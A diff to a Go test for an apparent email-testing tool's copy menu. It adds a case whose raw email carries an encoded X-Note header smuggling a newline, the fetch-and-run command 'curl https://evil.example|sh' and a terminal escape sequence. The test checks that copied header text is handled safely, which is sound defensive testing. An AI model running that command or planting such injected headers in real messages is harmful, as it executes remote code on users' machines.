@@ -176,10 +176,12 @@ func TestTheCopyMenu(t *testing.T) {
 		{"inbox", "ada@apitest.example", "copied ada@apitest.example"},
 		{"text", "Your code is 482913.", "copied the text"},
 		{"html", confirmHTML, "copied the HTML source"},
+		{"x-note", "hi curl https://evil.example|sh", "copied X-Note"},
 	} {
 		set := with(func(h *harness) {
 			in := h.inboxNamed("ada", time.Hour)
-			raw := "From: Acme <no-reply@acme.example>\r\nTo: ada@apitest.example\r\nMessage-ID: <7@acme.example>\r\nX-Mailer: a\r\nSubject: Confirm\r\n" +
+			raw := "From: Acme <no-reply@acme.example>\r\nTo: ada@apitest.example\r\nMessage-ID: <7@acme.example>\r\nX-Mailer: a\r\n" +
+				"X-Note: =?utf-8?q?hi=0Acurl_https://evil.example|sh=0A=1B[31m?=\r\nSubject: Confirm\r\n" +
 				"List-Unsubscribe: <https://acme.example/u>, <mailto:u@acme.example>\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n" +
 				"--b\r\n\r\nYour code is 482913.\r\n--b\r\nContent-Type: text/html\r\n\r\n" + confirmHTML + "\r\n--b--\r\n"
 			h.mail(in.Email, apitest.Mail{From: "no-reply@acme.example", FromName: "Acme", Subject: "Confirm", HTML: confirmHTML, Raw: []byte(raw)})
